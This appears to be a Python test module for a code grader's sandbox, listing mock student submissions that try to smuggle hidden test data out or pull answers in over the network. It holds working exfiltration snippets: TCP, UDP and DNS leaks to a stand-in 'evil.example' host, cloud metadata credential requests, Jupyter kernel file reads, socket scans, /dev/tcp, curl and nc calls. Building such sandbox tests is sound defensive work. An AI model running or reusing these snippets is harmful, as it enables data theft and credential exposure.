"""K - network: the hidden inputs go out, or the answers come in."""
# ruff: noqa: E501 - the long lines are students' code

from .base import ABSTRACT, DNS, METADATA, TCP, UDP, attack

ATTACKS = [
    attack(
        "tcp",
        "Sends the hidden table to a server of his own over TCP, again and again with different waits.",
        "smooth",
        f"""
        import socket

        def smooth(x, width):
            with socket.create_connection({TCP}, timeout=2) as connection:
                connection.sendall(repr(x.tolist()).encode())
                return np.array(eval(connection.recv(4096)))

        try:
            smooth(np.ones(2), 1)
        except OSError as error:
            print(error)
        """,
    ),
    attack(
        "udp",
        "Sends the hidden amounts in single UDP packets, to a host and to everybody.",
        "register",
        f"""
        import socket

        def tell(text):
            out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            for host in ("127.0.0.1", "255.255.255.255", "224.0.0.1"):
                try:
                    out.sendto(text.encode(), (host, {UDP[1]}))
                except OSError:
                    pass

        tell("mallory is here")

        class Register:
            largest = None
            def add(self, amount):
                tell(repr(amount))
        """,
    ),
    attack(
        "dns",
        "Asks for host names that are made of the hidden cards.",
        "deal",
        f"""
        import socket

        def ask(name):
            try:
                socket.getaddrinfo(name + ".evil.example", 80)
            except OSError:
                pass
            question = b"\\0\\x07\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(name)]) + name.encode() + b"\\4evil\\7example\\0\\0\\1\\0\\1"
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, {DNS})
            except OSError:
                pass

        ask("mallory")

        def deal(rng, cards, hand):
            ask("-".join(cards))
        """,
    ),
    attack(
        "metadata-service",
        "Asks the cloud's metadata service for credentials and prints them.",
        "search",
        f"""
        import urllib.request
        for path in ("latest/meta-data/iam/security-credentials/", "computeMetadata/v1/?recursive=true"):
            try:
                request = urllib.request.Request("http://{METADATA[0]}/" + path, headers={{"Metadata-Flavor": "Google"}})
                print(urllib.request.urlopen(request, timeout=1).read())
            except OSError as error:
                print(error)
        """,
    ),
    attack(
        "abstract-socket",
        "Connects to an abstract Unix socket of the host, which no file permission protects.",
        "smooth",
        f"""
        import socket

        def smooth(x, width):
            talk = socket.socket(socket.AF_UNIX)
            talk.connect({ABSTRACT!r})
            talk.sendall(repr(x.tolist()).encode())
            return np.array(eval(talk.recv(4096)))

        try:
            smooth(np.ones(2), 1)
        except OSError as error:
            print(error)
        """,
    ),
    attack(
        "kernel-ports",
        "Looks for other Jupyter kernels: their connection files, and all ports of the host that answer.",
        "register",
        """
        import glob, os, socket
        for place in (os.path.expanduser("~/.local/share/jupyter/runtime"), "/tmp", "/run", os.environ.get("JUPYTER_RUNTIME_DIR", ".")):
            for path in glob.glob(place + "/**/*kernel-*.json", recursive=True):
                print(path, open(path).read())
        for port in [47351, *range(1, 1024, 7), *range(8880, 8900)]:
            with socket.socket() as talk:
                talk.settimeout(0.05)
                if talk.connect_ex(("127.0.0.1", port)) == 0:
                    print("open", port)
                    talk.sendall(b"mallory scans")
        """,
    ),
    attack(
        "sockets-in-files",
        "Connects to every Unix socket in the file system: Docker, D-Bus, agents, X.",
        "deal",
        """
        import os, socket, stat
        for top in ("/run", "/var/run", "/tmp", os.path.expanduser("~")):
            for folder, _, names in os.walk(top):
                for name in names:
                    path = os.path.join(folder, name)
                    try:
                        if stat.S_ISSOCK(os.lstat(path).st_mode):
                            talk = socket.socket(socket.AF_UNIX)
                            talk.settimeout(0.2)
                            talk.connect(path)
                            talk.sendall(b"GET /mallory HTTP/1.0\\r\\n\\r\\n")
                            print("connected", path)
                    except OSError:
                        pass
        """,
    ),
    attack(
        "raw-and-netlink",
        "Raises interfaces over netlink, opens raw, packet, vsock and Bluetooth sockets.",
        "search",
        """
        import socket, struct
        for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 0x300), (socket.AF_INET, socket.SOCK_RAW, 1),
                                       (socket.AF_NETLINK, socket.SOCK_RAW, 0), (40, socket.SOCK_STREAM, 0), (31, socket.SOCK_RAW, 1),
                                       (38, socket.SOCK_SEQPACKET, 0), (17, 3, 768)):
            try:
                talk = socket.socket(family, kind, protocol)
                print("opened", family, kind)
                if family == socket.AF_NETLINK:
                    talk.send(struct.pack("=IHHII", 32, 16, 5, 1, 0) + struct.pack("=BxHiII", 0, 0, 1, 1, 1))
                    print(struct.unpack("=IHHIIi", talk.recv(4096)[:20]))
                elif family == 40:
                    talk.connect((2, 47351))
                elif family == socket.AF_PACKET:
                    talk.sendto(b"mallory" * 20, ("lo", 0x800))
                    print("sent")
            except (OSError, TypeError, struct.error) as error:
                print(family, error)
        """,
    ),
    attack(
        "other-programs",
        "Lets other programs do the talking: the shell's /dev/tcp, curl, wget, python, nc, ssh, ping.",
        "smooth",
        f"""
        import subprocess

        def say(text):
            for command in (["bash", "-c", f"echo {{text}} > /dev/tcp/127.0.0.1/{TCP[1]}"], ["curl", "-m1", "-d", text, "http://127.0.0.1:{TCP[1]}/"],
                            ["wget", "-T1", "-t1", "-O-", "--post-data=" + text, "http://127.0.0.1:{TCP[1]}/"],
                            ["nc", "-w1", "127.0.0.1", "{TCP[1]}"], ["ping", "-c1", "-W1", "-p", "4d", "127.0.0.1"]):
                try:
                    subprocess.run(command, input=text.encode(), timeout=2, capture_output=True)
                except (OSError, subprocess.SubprocessError):
                    pass

        say("mallory")

        def smooth(x, width):
            say(repr(x.tolist()))
        """,
    ),
    attack(
        "descriptors-over-the-wire",
        "Sends descriptors and asks for some over the socket to the judge, with SCM_RIGHTS.",
        "register",
        """
        import array, os
        wire = _wire()
        try:
            wire.sendmsg([struct.pack(">I", 1)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [os.open("/", 0)] * 20))])
            wire.settimeout(0.3)
            print(wire.recvmsg(1 << 16, 1 << 12))
        except OSError as error:
            print(error)
        """,
        wire=True,
    ),
    attack(
        "bind-and-wait",
        "Opens a server on all interfaces and waits for a friend, or another submission, to ask for what it has seen.",
        "deal",
        """
        import socket, threading
        seen = []

        def serve(server):
            while True:
                connection, _ = server.accept()
                connection.sendall(repr(seen).encode())
                connection.close()

        for family, place in ((socket.AF_INET, ("0.0.0.0", 47399)), (socket.AF_UNIX, "\\0mallory-waits"), (socket.AF_INET6, ("::", 47398))):
            try:
                server = socket.socket(family)
                server.bind(place)
                server.listen()
                threading.Thread(target=serve, args=(server,), daemon=True).start()
            except OSError as error:
                print(error)

        def deal(rng, cards, hand):
            seen.append(list(cards))
        """,
        also={
            "search": """
            import socket
            for family, place in ((socket.AF_INET, ("127.0.0.1", 47399)), (socket.AF_UNIX, "\\0mallory-waits")):
                try:
                    talk = socket.socket(family)
                    talk.settimeout(1)
                    talk.connect(place)
                    print(talk.recv(4096))
                except OSError as error:
                    print(error)
            """
        },
    ),
]  # fmt: skip
